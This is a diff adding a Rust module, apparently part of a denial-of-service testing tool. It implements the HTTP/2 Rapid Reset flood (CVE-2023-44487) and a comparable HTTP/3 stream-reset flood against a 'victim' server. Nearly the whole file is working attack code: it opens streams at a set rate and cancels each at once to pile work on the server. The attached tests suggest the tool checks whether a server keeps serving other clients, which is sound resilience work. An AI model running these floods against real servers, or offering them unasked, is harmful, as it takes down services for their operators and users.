@@ -1,0 +1,87 @@
+//! Requests that are reset as soon as they are sent: work for the server, and no response to the limit of concurrent
+//! ones.
+
+use std::io;
+
+use tokio::io::AsyncWriteExt;
+
+use super::Force;
+use crate::wire::{Head, h2, h2_frame};
+
+/// `CANCEL` (RFC 9113 §7).
+const CANCEL: u32 = 8;
+/// `H3_REQUEST_CANCELLED` (RFC 9114 §8.1).
+const REQUEST_CANCELLED: quinn::VarInt = quinn::VarInt::from_u32(0x010c);
+
+/// CVE-2023-44487: as fast as the rate allows, without regard to the limit of concurrent streams.
+pub(super) async fn http2(force: &Force, number: usize) -> io::Result<()> {
+    let stream = force.victim.tls_stream(force.source(number), b"h2").await?;
+    let _open = force.tally.open();
+    let (reading, mut writing) = tokio::io::split(stream);
+    let sending = async {
+        writing.write_all(h2::PREFACE).await?;
+        writing.write_all(&h2_frame(h2::SETTINGS, 0, 0, &[])).await?;
+        let head = Head::get(force.victim.title.as_str());
+        for stream in (1..u32::MAX >> 1).step_by(2) {
+            force.act().await;
+            let reset = h2_frame(h2::RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
+            writing
+                .write_all(&[head.http2(stream, true), reset].concat())
+                .await?;
+        }
+        Ok(())
+    };
+    tokio::select! {
+        biased;
+        ended = force.drain(reading) => ended,
+        failed = sending => failed,
+    }
+}
+
+pub(super) async fn http3(force: &Force, number: usize) -> io::Result<()> {
+    let connection = force.quic(number, |_| {}).await?;
+    let _open = force.tally.open();
+    let head = Head::get(force.victim.title.as_str()).http3();
+    loop {
+        force.act().await;
+        let (mut sending, mut receiving) = connection.open_bi().await?;
+        sending.write_all(&head).await?;
+        // In turns: resets before the end of the request, and refusals of the response.
+        if force
+            .scheduled
+            .load(std::sync::atomic::Ordering::Relaxed)
+            .is_multiple_of(2)
+        {
+            sending.reset(REQUEST_CANCELLED).map_err(io::Error::other)?;
+        } else {
+            sending.finish().map_err(io::Error::other)?;
+        }
+        receiving.stop(REQUEST_CANCELLED).map_err(io::Error::other)?;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::attacks::{Attack, Scale};
+    use crate::beside::assert_served;
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn requests_over_http_2_that_are_reset_leave_service_to_others() {
+        let scale = Scale {
+            connections: 4,
+            addresses: 4,
+            rate: 1_000.0,
+        };
+        assert_served(Attack::ResetHttp2, scale, &[]).await;
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn requests_over_http_3_that_are_reset_leave_service_to_others() {
+        let scale = Scale {
+            connections: 4,
+            addresses: 4,
+            rate: 1_000.0,
+        };
+        assert_served(Attack::ResetHttp3, scale, &[]).await;
+    }
+}
